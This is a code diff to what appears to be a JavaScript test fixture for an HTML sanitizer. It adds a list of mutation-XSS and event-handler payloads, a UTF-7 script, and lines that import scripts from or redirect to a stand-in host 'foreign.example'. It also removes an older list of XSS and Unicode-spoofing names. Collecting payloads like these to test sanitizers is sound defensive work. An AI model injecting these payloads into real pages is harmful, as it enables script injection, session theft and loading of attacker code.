@@ -89,24 +89,31 @@ const HEAVY = [
   "W".repeat(3_000) + " " + "\u{12031}".repeat(400),
 ];
 
+// What a cleaner of HTML has let through elsewhere, because it was read twice and differently, and what newer browsers added.
+const MUTATING = [
+  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+  "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
+  "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
+  "<title><img title=\"</title><img src onerror=alert(1)>\">",
+  "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
+  "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>",
+  "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>\"/></svg>",
+  "<link rel=stylesheet href=https://foreign.example/x.css>",
+  "<link rel=prefetch href=https://foreign.example/x>",
+  "<img srcset=https://foreign.example/pixel.png>",
+  "<body onload=alert(1)>",
+  "<audio src=https://foreign.example/x.mp3 autoplay onerror=alert(1)>",
+  "<img/src/onerror=alert(1)>",
+  "<embed src=javascript:alert(1)>",
+  "<x contenteditable autofocus onfocus=alert(1)>x</x>",
+  "<script type=module>import 'https://foreign.example/x.js'</script>",
+  "<script>document.location='https://foreign.example/'</script>",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+];
+
 export const texts = { scripts: SCRIPTS, links: LINKS, heavy: HEAVY };
 
-export const names = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "\"><svg onload=alert(1)>",
-  "javascript:alert(1)",
-  "\u202eangelA",
-  "\u2066\u202eAna\u2069",
-  "Ana\u200b\u200d\u00ad",
-  "\u0410n\u0430",
-  "Z\u0351\u036b\u0343\u036a\u0302\u0364\u0335a\u0300\u0301\u0302\u0303\u0304\u0305\u0306l\u0307\u0308\u0309\u030ago",
-  "W".repeat(80),
-  "\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd",
-  "\u{12031}\u{12031}\u{12031}\u{12031}\u{12031}\u{12031}",
-  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(9),
-  "a\tb   c",
-  "\u05d0\u05d1\u05d2 123 abc \u05d3",
-  "Hub",
-  "This is you",
-];
+// What runs, loads or changes the page wherever it is taken for HTML.
+export const payloads = [...SCRIPTS, ...MUTATING];
